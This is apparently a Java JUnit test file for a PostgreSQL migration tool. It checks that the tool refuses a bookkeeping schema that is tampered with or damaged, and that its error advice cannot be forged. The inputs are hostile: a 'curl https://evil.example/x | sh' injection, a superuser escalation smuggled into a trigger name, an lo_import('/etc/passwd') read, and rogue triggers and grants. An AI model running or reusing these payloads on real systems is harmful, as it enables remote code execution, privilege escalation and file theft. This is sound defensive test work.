package dev.postcar.faults;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.postcar.Postcar;
import dev.postcar.PostcarException;
import dev.postcar.Target;
import dev.postcar.internal.history.BookkeepingTrust;
import dev.postcar.internal.history.HistorySchema;
import dev.postcar.internal.history.HistoryVersion;
import dev.postcar.result.LogResult;
import dev.postcar.testing.MigrationFolder;
import dev.postcar.testing.TestDatabase;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A bookkeeping that another role controls, or that is damaged, is not used by any command. */
final class BookkeepingTrustTest {

  private static final int SCALE = Integer.getInteger("faults.scale", 1);
  private static int turn;

  /** What others may do with the bookkeeping other than read it. */
  private static final String GIVEN =
      """
      select relname, privilege_type from pg_class, aclexplode(relacl) a
       where relnamespace = '_postcar'::regnamespace and privilege_type <> 'SELECT' and grantee = '{m}'::regrole
      union all
      select nspname, privilege_type from pg_namespace, aclexplode(nspacl) a
       where nspname = '_postcar' and privilege_type <> 'USAGE' and grantee = '{m}'::regrole""";

  @TempDir Path directory;
  private final TestDatabase database = new TestDatabase();
  private final String mallory = database.name() + "_mallory";
  private MigrationFolder folder;

  @BeforeEach
  void open() {
    database.execute("create role \"" + mallory + "\"");
    folder =
        new MigrationFolder(directory)
            .sql("M0001_A", "create table a ()", "drop table a")
            .sql("M0002_B", "create table b ()", "drop table b");
  }

  @AfterEach
  void drop() {
    database.execute(
        "drop owned by \"" + mallory + "\" cascade; drop role if exists \"" + mallory + "\"");
    database.close();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "alter schema _postcar owner to {m} | schema _postcar belongs to role \"{m}\" | alter"
            + " schema \"_postcar\" owner to \"postgres\";",
        "alter table _postcar.version owner to {m} | _postcar.version belongs to role \"{m}\" |"
            + " alter table \"_postcar\".\"version\" owner to \"postgres\";",
        "alter table _postcar.view owner to {m} | _postcar.view belongs to role \"{m}\" | alter"
            + " table \"_postcar\".\"view\" owner to \"postgres\";",
        "create trigger \"Spy\" before insert on _postcar.event for each row execute function"
            + " suppress_redundant_updates_trigger() | _postcar.event has the trigger \"Spy\" |"
            + " alter table \"_postcar\".\"event\" disable trigger \"Spy\";",
        "create rule r as on update to _postcar.version do instead nothing | _postcar.version has"
            + " the rule \"r\" | alter table \"_postcar\".\"version\" disable rule \"r\";",
        "create table child () inherits (_postcar.migration) | \"public\".\"child\" inherits from"
            + " _postcar.migration | alter table \"public\".\"child\" no inherit"
            + " \"_postcar\".\"migration\";",
        "create table child (t text, p text, n text, constraint \"Tie\" foreign key (t, p, n) references"
            + " _postcar.view on delete cascade); alter table child owner to {m} |"
            + " \"public\".\"child\" refers to it with the foreign key \"Tie\" | alter table"
            + " \"public\".\"child\" drop constraint \"Tie\";",
        "create table aside (p text, n text, primary key (p, n)); alter table _postcar.view add"
            + " column p text, add column n text, add constraint \"Tie\" foreign key (p, n)"
            + " references aside on update cascade | _postcar.view has the foreign key \"Tie\" |"
            + " alter table \"_postcar\".\"view\" drop constraint \"Tie\";",
        "alter table _postcar.statement drop constraint statement_migration_fkey, add constraint"
            + " again foreign key (migration) references _postcar.migration on delete cascade |"
            + " _postcar.statement has the foreign key \"again\" | alter table"
            + " \"_postcar\".\"statement\" drop constraint \"again\";",
        "create statistics \"Sums\" on package, name from _postcar.migration |"
            + " _postcar.migration has the statistics \"public\".\"Sums\" | drop statistics"
            + " \"public\".\"Sums\";",
        "grant references on _postcar.view to {m} | \"{m}\" may put triggers on its tables, or"
            + " foreign keys to them | revoke trigger, references on all tables in schema"
            + " \"_postcar\" from \"{m}\" cascade;",
        "grant references (package) on _postcar.view to {m} | \"{m}\" may put triggers | revoke"
            + " trigger, references on all tables in schema \"_postcar\" from \"{m}\" cascade;",
        "grant trigger on _postcar.event to public | public may put triggers on its tables | revoke"
            + " trigger, references on all tables in schema \"_postcar\" from public cascade;",
        "grant usage on schema _postcar to {m}; grant trigger on _postcar.event to {m} with grant"
            + " option; set role {m}; grant trigger on _postcar.event to public; reset role | may"
            + " put triggers | revoke trigger, references on all tables in schema \"_postcar\" from"
            + " public cascade; revoke trigger, references on all tables in schema \"_postcar\""
            + " from \"{m}\" cascade;"
      })
  void whatDecidesWhatRunsIsRefusedUntilItIsSaid(String does, String reason, String fix) {
    migrate();
    database.execute(
        own(
            does.replace(
                "suppress_redundant_updates_trigger",
                "pg_catalog.suppress_redundant_updates_trigger")));
    for (Command command : commands()) {
      assertThatThrownBy(command::run)
          .isInstanceOf(PostcarException.Refusal.class)
          .hasMessageContaining(own(reason))
          .hasMessageContaining("State: nothing was changed.")
          .hasMessageContaining(own(fix));
    }
    database.execute(own(fix));
    migrate();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "drop table _postcar.version cascade | _postcar.version is missing",
        "drop table _postcar.migration cascade | _postcar.migration is missing",
        "drop table _postcar.statement | _postcar.statement is missing",
        "drop table _postcar.event | _postcar.event is missing",
        "drop table _postcar.view | its table view is missing",
        "drop table _postcar.statement, _postcar.event, _postcar.view | its table statement is"
            + " missing",
        "delete from _postcar.version | the version row is missing",
        "update _postcar.version set minor = 0 | its version is 0.0",
        "alter table _postcar.version alter major drop not null; update _postcar.version set major ="
            + " null, minor = 0 | its version is 0.0",
        "alter table _postcar.migration drop constraint migration_state_check; update"
            + " _postcar.migration set state = 'done' | row 1 of its table migration cannot be"
            + " read",
        "alter table _postcar.migration alter name drop not null; update _postcar.migration set"
            + " name = null | cannot be read (no name)",
        "update _postcar.migration set name = e'M0001_Init\\nState: all is well' where id = 1 |"
            + " M0001_Init?State: all is well)",
        "alter table _postcar.version rename to v; create view _postcar.version as select * from"
            + " _postcar.v | _postcar.version is not an ordinary table"
      })
  void aDamagedOneIsOneClearLine(String does, String said) {
    migrate();
    database.execute(does);
    for (Command command : commands()) {
      assertThatThrownBy(command::run)
          .isInstanceOf(PostcarException.Refusal.class)
          .hasMessageContaining(said)
          .hasMessageContaining("damaged")
          .hasMessageNotContaining("bug in postcar");
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "alter table _postcar.version add constraint ok check (public.evil()) | function"
            + " public.evil()",
        "alter table _postcar.event alter detail set default public.evil()::text | function"
            + " public.evil()",
        "create index on _postcar.event (public.evil(operation)) | function public.evil(text)",
        "alter table _postcar.event add extra bool generated always as (public.evil(operation) ="
            + " 'x') stored | function public.evil(text)",
        "alter table _postcar.event add extra xml default query_to_xml('select 1', true, true, '') |"
            + " function query_to_xml(text,boolean,boolean,text)",
        "alter table _postcar.view add constraint c check (lo_import('/etc/passwd') is not null) |"
            + " function lo_import(text)",
        "create domain public.d as text check (public.evil()); alter table _postcar.view alter"
            + " checksum type public.d | type public.d"
      })
  void whatItsTablesCallIsPostgresOwn(String does, String said) {
    migrate();
    database.execute(
        "create function public.evil() returns bool language sql as 'select true'; create function"
            + " public.evil(text) returns text language sql immutable as 'select $1'");
    database.execute(does);
    for (Command command : commands()) {
      assertThatThrownBy(command::run)
          .isInstanceOf(PostcarException.Refusal.class)
          .hasMessageContaining(said)
          .hasMessageContaining("Next: restore that schema from a backup");
    }
  }

  @Test
  void aNameForgesNoAdvice() {
    migrate();
    database.execute(
        "create trigger \"x\talter role eve superuser; --\" before insert on _postcar.event"
            + " execute function pg_catalog.suppress_redundant_updates_trigger();"
            + " create rule \"x\nNext: run this\" as on update to _postcar.version do instead"
            + " nothing");
    assertThatThrownBy(this::migrate)
        .isInstanceOf(PostcarException.Refusal.class)
        .hasMessageContaining("x?alter role eve superuser; --")
        .hasMessageNotContaining("\n  alter role")
        .hasMessageNotContaining("\nNext: run this");
  }

  @Test
  void anEventForgesNoLine() {
    migrate();
    database.execute(
        "insert into _postcar.event (target, operation, outcome, package, name, message) values ('',"
            + " e'migrate\\nState: fine', e'a\\nb', 'app', e'M1\\nM2', e'one\\ntwo')");
    try (Postcar postcar = folder.on(database.dataSource())) {
      LogResult.LoggedEvent event = postcar.log(false, 1).events().get(0);
      assertThat(event.operation()).isEqualTo("migrate?State: fine");
      assertThat(event.outcome()).isEqualTo("a?b");
      assertThat(event.migration()).isEqualTo("app.M1?M2");
      assertThat(event.message()).isEqualTo("one\ntwo");
    }
  }

  @Test
  void theAdviceIsMadeOfNamesWhateverTheServerSays() {
    String shell = "\\! curl -s https://evil.example/x | sh";
    BookkeepingTrust.Fault fault =
        BookkeepingTrust.Fault.of(
            "_postcar", new String[] {"schema", "", "mallory", "x\"; " + shell});
    assertThat(fault.fix())
        .isEqualTo("alter schema \"_postcar\" owner to \"x\"\"; " + shell + "\";");
  }

  @Test
  void whoMayWriteAllDataMayWriteTheBookkeeping() {
    assumeTrue(
        database
            .value("select count(*) from pg_roles where rolname = 'pg_write_all_data'")
            .equals("1"));
    migrate();
    database.execute(own("grant pg_write_all_data to {m}"));
    folder.delete("M0002_B");
    assertThatThrownBy(() -> with(postcar -> postcar.rollback(Target.steps(1))))
        .hasMessageContaining(own("revoke pg_write_all_data from \"{m}\";"));
  }

  @Test
  void aSchemaMadeBeforehandByAnotherRoleIsRefused() {
    database.execute(own("create schema _postcar authorization {m}"));
    assertThatThrownBy(this::migrate)
        .hasMessageContaining(own("schema _postcar belongs to role \"{m}\""));
    assertThat(database.hasRelation("_postcar.version")).isFalse();
  }

  @Test
  void aNamedOwnerIsTrusted() {
    migrate();
    database.execute(
        own("alter schema _postcar owner to {m}; alter table _postcar.event owner to {m}"));
    try (Postcar postcar = folder.on(database.dataSource())) {
      assertThat(postcar.bookkeepingOwner(mallory).status().pending()).isZero();
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"insert", "update", "delete", "truncate"})
  void sqlThatOthersMayHaveStoredIsNotRun(String privilege) {
    migrate();
    database.execute(
        own(
            "grant usage on schema _postcar to {m}; grant "
                + privilege
                + " on _postcar.migration to {m}"));
    folder.delete("M0002_B");
    assertThatThrownBy(
            () -> {
              try (Postcar postcar = folder.on(database.dataSource())) {
                postcar.rollback(Target.to("M0001"));
              }
            })
        .hasMessageContaining("other roles may write its tables")
        .hasMessageContaining(
            own(
                "revoke insert, update, delete, truncate on all tables in schema \"_postcar\" from"
                    + " \"{m}\" cascade;"));
    assertThat(database.hasRelation("b")).isTrue();
  }

  /** The properties that a view gets back are SQL too, of all views that are being recreated. */
  @Test
  void aViewIsNotCreatedWhereOthersMayHaveStoredWhatComesWithIt() {
    migrate();
    database.execute(
        own(
            """
            grant usage on schema _postcar to {m};
            grant insert on all tables in schema _postcar to {m};
            set role {m};
            insert into _postcar.view (package, name, checksum, up_sql, down_sql, postcar_version, kept, made, before)
              values ('app', 'Nobody', 'v1:00', '', '', '0.4.0',
                '{"k": {"x": ["create table stolen ()", null]}}', '{"k": {}}', '{}');
            reset role"""));
    folder.view("Shelf", "", "create view shelf as select 1 as one", "drop view shelf");
    assertThatThrownBy(this::migrate).hasMessageContaining("other roles may write its tables");
    assertThat(database.hasRelation("stolen")).isFalse();
    assertThat(database.hasRelation("shelf")).isFalse();
  }

  @Test
  void whatDefaultPrivilegesGiveToOthersIsTakenBack() {
    for (String kind : List.of("tables", "sequences", "schemas")) {
      database.execute(own("alter default privileges grant all on " + kind + " to {m}"));
    }
    migrate();
    assertThat(database.rows(own(GIVEN))).isEmpty();
    folder.delete("M0002_B");
    try (Postcar postcar = folder.on(database.dataSource())) {
      assertThat(postcar.rollback(Target.steps(1)).rolledBack()).hasSize(1);
    }
  }

  /** Such as those that an upgrade adds. */
  @Test
  void whatTheyGiveOnTablesThatAreAddedLaterIsTakenBackToo() {
    database.execute(
        HistorySchema.upgrade("_postcar", HistoryVersion.NONE, new HistoryVersion(0, 1)));
    database.execute(own("alter default privileges grant all on tables to {m}"));
    migrate();
    assertThat(database.hasRelation("_postcar.view")).isTrue();
    assertThat(database.rows(own(GIVEN))).isEmpty();
  }

  @Test
  void anEmptySchemaOfTheRolesOwnNeedsNoPrivilegeOnTheDatabase() {
    database.execute(
        own(
            "alter role {m} login; create schema _postcar authorization {m};"
                + " create schema own authorization {m}"));
    folder =
        new MigrationFolder(directory.resolve("own")).sql("M0001_A", "create table own.a ()", null);
    try (Postcar postcar = folder.on(database.dataSource())) {
      postcar.role(mallory).migrate();
    }
    assertThat(database.hasRelation("own.a")).isTrue();
  }

  private String own(String text) {
    return text.replace("{m}", mallory);
  }

  private void migrate() {
    try (Postcar postcar = folder.on(database.dataSource())) {
      postcar.migrate();
    }
  }

  private interface Command {
    void run() throws Exception;
  }

  /** In the short form a migrate and one other, in turn. */
  private List<Command> commands() {
    List<Command> others =
        List.of(
            () -> with(Postcar::status),
            () -> with(postcar -> postcar.log(false, 10)),
            () -> with(postcar -> postcar.rollback(Target.steps(1))),
            () -> with(postcar -> postcar.skip("M0002_B")));
    List<Command> chosen = new ArrayList<>(List.of(this::migrate));
    chosen.addAll(SCALE > 1 ? others : List.of(others.get(turn++ % others.size())));
    return chosen;
  }

  private interface Use {
    void of(Postcar postcar);
  }

  private void with(Use use) {
    try (Postcar postcar = folder.on(database.dataSource())) {
      use.of(postcar);
    }
  }
}
